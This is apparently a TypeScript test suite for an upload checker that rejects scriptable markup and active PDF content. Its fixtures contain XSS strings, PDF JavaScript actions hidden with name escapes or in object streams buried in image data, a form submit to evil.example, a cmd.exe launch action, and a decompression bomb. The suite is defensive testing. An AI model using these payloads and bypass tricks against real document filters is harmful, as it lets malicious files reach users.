import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { jpegBytes, pdfBytes } from '../test/factories.js';
import { containsMarkup, inspectUpload } from './upload-content.js';

const keyOf = async (name: string, content: Buffer) => {
  const verdict = await inspectUpload(name, content);
  return verdict.ok ? verdict.mime : verdict.message.key;
};

describe('upload content inspection (decision 0013)', () => {
  it('finds markup a browser would run, in any case', () => {
    for (const code of [
      '<script>',
      '<SCRIPT src=x>',
      '<svg onload=alert(1)>',
      '<svg/onload=x>',
      '<!DOCTYPE html>',
      'JavaScript:alert(1)',
      '<iframe src=x>',
    ]) {
      expect(containsMarkup(Buffer.from(`\xff\xd8\xff${code}`, 'latin1')), code).toBe(true);
    }
  });

  it('does not mistake image data for markup: 50 pseudo-random 2 MB buffers (seeded, so repeatable)', () => {
    let state = 20261121;
    const noise = () => {
      const bytes = Buffer.alloc(2 * 1024 * 1024);
      for (let i = 0; i < bytes.length; i++) {
        // xorshift32: uniform bytes like compressed image data
        state ^= state << 13;
        state ^= state >>> 17;
        state ^= state << 5;
        bytes[i] = state & 0xff;
      }
      return bytes;
    };
    for (let i = 0; i < 50; i++) expect(containsMarkup(noise())).toBe(false);
  });

  it('accepts plain JPEG and PDF content under a matching name', async () => {
    expect(await keyOf('a.jpg', jpegBytes())).toBe('image/jpeg');
    expect(await keyOf('a.pdf', pdfBytes())).toBe('application/pdf');
  });

  it('refuses an object stream it cannot read rather than skip it', async () => {
    const broken = Buffer.from(
      '%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 5 >>\nstream\nnotzl\nendstream\nendobj\n%%EOF\n',
      'latin1',
    );
    expect(await keyOf('a.pdf', broken)).toBe('document.uncheckable');
  });

  it('reads a harmless object stream and accepts the PDF', async () => {
    const packed = deflateSync(Buffer.from('2 0 << /Type /Page /Contents 3 0 R >>')).toString('latin1');
    const pdf = Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\ntrailer\n<< /Root 2 0 R >>\n%%EOF\n`,
      'latin1',
    );
    expect(await keyOf('a.pdf', pdf)).toBe('application/pdf');
  });
});

type PdfObject = string | { dictionary: string; data: Buffer | string };

/**
 * A PDF as writers lay it out: these objects (numbered from 1; a stream gets its /Length), a
 * cross-reference table with their offsets and a trailer naming object 1 as the root.
 */
function buildPdf(objects: PdfObject[], trailerExtra = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  const push = (part: Buffer | string) => {
    const bytes = typeof part === 'string' ? Buffer.from(part, 'latin1') : part;
    parts.push(bytes);
    length += bytes.length;
  };
  for (const [i, object] of objects.entries()) {
    offsets.push(length);
    if (typeof object === 'string') {
      push(`${i + 1} 0 obj\n${object}\nendobj\n`);
      continue;
    }
    const data = typeof object.data === 'string' ? Buffer.from(object.data, 'latin1') : object.data;
    push(`${i + 1} 0 obj\n<< ${object.dictionary} /Length ${data.length} >>\nstream\n`);
    push(data);
    push('\nendstream\nendobj\n');
  }
  const xref = length;
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}`);
  push(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`);
  return Buffer.concat(parts);
}

/** The data of an object stream holding these objects, and its /N and /First. */
function packObjects(objects: Array<[number, string]>): { data: string; entries: string } {
  let body = '';
  const offsets: string[] = [];
  for (const [number, object] of objects) {
    offsets.push(`${number} ${body.length}`);
    body += `${object}\n`;
  }
  const header = `${offsets.join(' ')}\n`;
  return { data: header + body, entries: `/N ${objects.length} /First ${header.length}` };
}

/** Data filtered row by row with a PNG predictor (1 = Sub, 2 = Up), as a writer does for /Predictor 1x. */
function pngPredicted(data: Buffer, columns: number, type: 1 | 2): Buffer {
  const rows: Buffer[] = [];
  let previous = Buffer.alloc(columns);
  for (let start = 0; start < data.length; start += columns) {
    const row = Buffer.alloc(columns);
    data.copy(row, 0, start, Math.min(start + columns, data.length));
    const out = Buffer.alloc(columns + 1);
    out[0] = type;
    for (let i = 0; i < columns; i++) {
      const predicted = type === 1 ? (i > 0 ? (row[i - 1] ?? 0) : 0) : (previous[i] ?? 0);
      out[i + 1] = ((row[i] ?? 0) - predicted) & 0xff;
    }
    rows.push(out);
    previous = row;
  }
  return Buffer.concat(rows);
}

/** Seeded pseudo-random bytes (xorshift32), like compressed image data, the same on every run. */
function noise(length: number, seed: number): Buffer {
  let state = seed;
  const bytes = Buffer.alloc(length);
  for (let i = 0; i < length; i++) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    bytes[i] = state & 0xff;
  }
  return bytes;
}

const catalogAnd = (...objects: PdfObject[]): PdfObject[] => [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [] /Count 0 >>',
  ...objects,
];

describe('PDF check cannot be walked around (decision 0013)', () => {
  it('accepts a text PDF as a bank writes it: Flate page content, a web link, an object stream, XMP metadata', async () => {
    const info = packObjects([[9, '<< /Producer (Statement service) /CreationDate (D:20250101120000Z) >>']]);
    const statement = buildPdf(
      [
        '<< /Type /Catalog /Pages 2 0 R /Metadata 8 0 R /OpenAction [3 0 R /FitH null] >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [6 0 R] >>',
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
        {
          dictionary: '/Filter /FlateDecode',
          data: deflateSync('BT /F1 11 Tf 72 770 Td (Statement: a stream of JS Bank payments) Tj ET'),
        },
        '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://bank.example/help) >> >>',
        { dictionary: `/Type /ObjStm ${info.entries} /Filter /FlateDecode`, data: deflateSync(info.data) },
        {
          dictionary: '/Type /Metadata /Subtype /XML',
          data: '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>',
        },
      ],
      '/Info 9 0 R',
    );
    expect(await keyOf('statement.pdf', statement)).toBe('application/pdf');
  });

  it('accepts a scanned PDF: a 1.5 MB JPEG image whose data happens to hold short names, and a predicted Flate image', async () => {
    const jpeg = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
      noise(768 * 1024, 20260101),
      // three letters turn up by chance in image data; alone they are no key with a value
      Buffer.from('/JS (x) /XFA /AA << /EF /Launcher', 'latin1'),
      noise(768 * 1024, 20260102),
      Buffer.from([0xff, 0xd9]),
    ]);
    const strip = pngPredicted(noise(64 * 32, 7), 64, 2);
    const scan = buildPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im0 4 0 R /Im1 6 0 R >> >> /Contents 5 0 R >>',
      {
        dictionary:
          '/Type /XObject /Subtype /Image /Width 1240 /Height 1754 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode',
        data: jpeg,
      },
      {
        dictionary: '/Filter /FlateDecode',
        data: deflateSync('q 595 0 0 842 0 0 cm /Im0 Do Q q 64 0 0 32 0 0 cm /Im1 Do Q'),
      },
      {
        dictionary:
          '/Type /XObject /Subtype /Image /Width 64 /Height 32 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /DecodeParms << /Predictor 15 /Colors 1 /BitsPerComponent 8 /Columns 64 >>',
        data: deflateSync(strip),
      },
    ]);
    expect(await keyOf('passport.pdf', scan)).toBe('application/pdf');
    expect(await keyOf('passport.jpg', Buffer.concat([jpegBytes(), noise(1024 * 1024, 3)]))).toBe(
      'image/jpeg',
    );
  });

  it("refuses JavaScript after a string holding 'stream', which once made the check skip to 'endstream'", async () => {
    for (const trick of [
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /T (x stream\n) /S /JavaScript /JS (app.alert(1)) /U (endstream) >> >>',
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /T (x stream\r\n) /S /J#61vaScript /JS (app.alert(1)) /U (endstream) >> >>',
    ]) {
      const pdf = buildPdf([trick, '<< /Type /Pages /Kids [] /Count 0 >>']);
      expect(await keyOf('a.pdf', pdf), trick).toBe('document.activeContent');
    }
  });

  it('refuses an object stream whose objects a PNG predictor scrambles (/DecodeParms): it cannot be checked', async () => {
    const packed = packObjects([[7, '<< /S /JavaScript /JS (app.alert(1)) >>']]);
    const predicted = deflateSync(pngPredicted(Buffer.from(packed.data), 8, 1));
    const pdf = buildPdf(
      catalogAnd({
        dictionary: `/Type /ObjStm ${packed.entries} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>`,
        data: predicted,
      }),
    );
    expect(await keyOf('a.pdf', pdf)).toBe('document.uncheckable');
    // without /Type and /First a lenient viewer may still read objects from it: the predictor is undone and the data searched
    const unlabelled = buildPdf(
      catalogAnd({
        dictionary: '/N 1 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>',
        data: predicted,
      }),
    );
    expect(await keyOf('a.pdf', unlabelled)).toBe('document.activeContent');
  });

  it('refuses an XFA form, whose XML carries its own scripts', async () => {
    const xfa = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>';
    for (const acroForm of ['<< /Fields [] /XFA 4 0 R >>', '<< /Fields [] /XF#41 [(template) 4 0 R] >>']) {
      const pdf = buildPdf([
        `<< /Type /Catalog /Pages 2 0 R /AcroForm ${acroForm} >>`,
        '<< /Type /Pages /Kids [] /Count 0 >>',
        '<< /Type /Annot /Subtype /Widget /Rect [0 0 1 1] >>',
        { dictionary: '/Filter /FlateDecode', data: deflateSync(xfa) },
      ]);
      expect(await keyOf('a.pdf', pdf), acroForm).toBe('document.activeContent');
    }
  });

  it('refuses actions that submit, open other files or play media, and attached files', async () => {
    for (const object of [
      '<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example/collect) >> >>',
      '<< /Type /Annot /Subtype /Link /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>',
      '<< /Type /Annot /Subtype /Link /A << /S /GoToE /T << /R /C /N (x.pdf) >> >> >>',
      '<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >> >>',
      '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>',
      '<< /Type /Annot /Subtype /Screen /A << /S /Rendition /OP 0 /JS (app.alert(1)) >> >>',
      '<< /Type /Catalog /Names << /JavaScript\0<< /Names [(a) 9 0 R] >> >> >>',
    ]) {
      expect(await keyOf('a.pdf', buildPdf(catalogAnd(object))), object).toBe('document.activeContent');
    }
  });

  it('reads an object stream hidden inside the data of an image, where the check once skipped to its endstream', async () => {
    const hidden = deflateSync(packObjects([[9, '<< /S /Launch /F (cmd.exe) >>']]).data);
    const inImage = Buffer.concat([
      noise(4096, 11),
      Buffer.from(
        `\n9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${hidden.length} >>\nstream\n`,
      ),
      hidden,
      Buffer.from('\nendstream\nendobj\n'),
      noise(4096, 12),
    ]);
    const pdf = buildPdf(catalogAnd({ dictionary: '/Subtype /Image /Filter /DCTDecode', data: inImage }));
    expect(await keyOf('a.pdf', pdf)).toBe('document.activeContent');
  });

  it('refuses streams it cannot read: other filters, junk in the dictionary, corrupt Flate data, more than 32 MB inflated', async () => {
    const packed = packObjects([[7, '<< /Type /Page >>']]);
    for (const [why, stream] of [
      [
        'an LZW object stream',
        { dictionary: `/Type /ObjStm ${packed.entries} /Filter /LZWDecode`, data: 'x' },
      ],
      [
        'two Flate filters',
        { dictionary: '/Filter [/FlateDecode /FlateDecode]', data: deflateSync(deflateSync('x')) },
      ],
      ['an ASCII85 stream', { dictionary: '/Filter /ASCII85Decode', data: '87cURD]i,"Ebo80~>' }],
      ['a filter by reference', { dictionary: '/Filter 9 0 R', data: deflateSync('x') }],
      ['data in another file', { dictionary: '/F (objects.bin) /Filter /FlateDecode', data: '' }],
      [
        'corrupt Flate data',
        { dictionary: '/Filter /FlateDecode', data: Buffer.from([0x78, 0x9c, 0xff, 0xff, 0xff]) },
      ],
      [
        'a Flate bomb',
        { dictionary: '/Filter /FlateDecode', data: deflateSync(Buffer.alloc(33 * 1024 * 1024)) },
      ],
    ] as const) {
      expect(await keyOf('a.pdf', buildPdf(catalogAnd(stream))), why).toBe('document.uncheckable');
    }
    // a dictionary this check cannot read before 'stream' (a viewer skips the junk), or hidden behind a comment
    for (const raw of [
      `3 0 obj\n<< /Type /ObjStm ${packed.entries} junk /Filter /LZWDecode >>\nstream\nx\nendstream\nendobj\n`,
      `3 0 obj\n<< /Type /ObjStm ${packed.entries} /Filter /LZWDecode >> % (\nstream\nx\nendstream\nendobj\n`,
    ]) {
      const pdf = Buffer.from(`%PDF-1.7\n${raw}%%EOF\n`, 'latin1');
      expect(await keyOf('a.pdf', pdf), raw).toBe('document.uncheckable');
    }
  });
});
